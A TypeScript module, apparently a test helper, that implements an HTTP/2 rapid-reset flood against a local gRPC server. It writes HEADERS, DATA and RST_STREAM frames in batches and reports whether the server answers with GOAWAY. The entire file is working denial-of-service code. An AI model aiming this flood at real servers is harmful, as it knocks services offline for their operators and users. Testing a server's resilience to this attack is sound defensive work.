/**
 * A rapid-reset client written at the frame level: over one TCP connection it writes, for each
 * new stream, HEADERS, a DATA frame with one gRPC message, and RST_STREAM (CANCEL), in batches,
 * as fast as the socket takes them. node:http2's client cannot flood like this: it opens streams
 * through its own bookkeeping and waits for the server's concurrency limit.
 *
 * It acknowledges the server's SETTINGS and PINGs, reads every frame header the server sends,
 * and stops at the server's GOAWAY, reporting its error code.
 */
import * as net from "node:net";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const FRAME = { DATA: 0x0, HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7 } as const;
const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
const CANCEL = 0x8;
/** Streams written per batch; the loop yields to the event loop between batches to read the server. */
const BATCH = 64;

export interface RapidResetResult {
  /** Streams opened and reset before the server closed the connection (or the time ran out). */
  resets: number;
  /** The GOAWAY error code the server sent (11 = ENHANCE_YOUR_CALM), or undefined if none came. */
  goawayCode: number | undefined;
  /**
   * The server ended the connection (GOAWAY, close or reset) before the deadline. A GOAWAY can be
   * lost: a server that closes a connection with unread frames in its socket makes the kernel
   * answer with a TCP reset, which may overtake it.
   */
  closedByServer: boolean;
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK "literal header field without indexing, new name", for names and values under 127 bytes. */
function literalHeaders(headers: [string, string][]): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of headers) {
    parts.push(Buffer.from([0x00, name.length]), Buffer.from(name, "latin1"), Buffer.from([value.length]), Buffer.from(value, "latin1"));
  }
  return Buffer.concat(parts);
}

/**
 * Floods `port` with open-and-reset streams of `path` carrying `message` (a framed gRPC message)
 * until the server sends GOAWAY or closes the connection, or `deadline` (a Date.now() value) passes.
 */
export function floodWithResets(port: number, path: string, message: Buffer, deadline: number): Promise<RapidResetResult> {
  const block = literalHeaders([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", `127.0.0.1:${port}`],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(CANCEL);
  return new Promise((resolve) => {
    const socket = net.connect(port, "127.0.0.1");
    let resets = 0;
    let goawayCode: number | undefined;
    let nextStream = 1;
    let pending: Buffer = Buffer.alloc(0);
    let finished = false;
    const finish = (closedByServer: boolean) => {
      if (finished) return;
      finished = true;
      socket.destroy();
      resolve({ resets, goawayCode, closedByServer });
    };
    socket.on("error", () => finish(true));
    socket.on("close", () => finish(true));
    socket.on("data", (chunk: Buffer) => {
      pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        const type = pending.readUInt8(3);
        const flags = pending.readUInt8(4);
        const payload = pending.subarray(9, 9 + length);
        if (type === FRAME.SETTINGS && !(flags & FLAG.ACK)) socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0, Buffer.alloc(0)));
        if (type === FRAME.PING && !(flags & FLAG.ACK)) socket.write(frame(FRAME.PING, FLAG.ACK, 0, Buffer.from(payload)));
        if (type === FRAME.GOAWAY) goawayCode = payload.readUInt32BE(4);
        pending = pending.subarray(9 + length);
      }
      if (goawayCode !== undefined) finish(true);
    });
    const flood = () => {
      if (finished) return;
      if (Date.now() >= deadline || nextStream > 0x7fff_0000) return finish(false);
      const frames: Buffer[] = [];
      for (let i = 0; i < BATCH; i++) {
        const id = nextStream;
        nextStream += 2;
        frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block), frame(FRAME.DATA, FLAG.END_STREAM, id, message), frame(FRAME.RST_STREAM, 0, id, cancel));
      }
      resets += BATCH;
      if (socket.write(Buffer.concat(frames))) setImmediate(flood);
      else socket.once("drain", flood);
    };
    socket.once("connect", () => {
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
      setImmediate(flood);
    });
  });
}
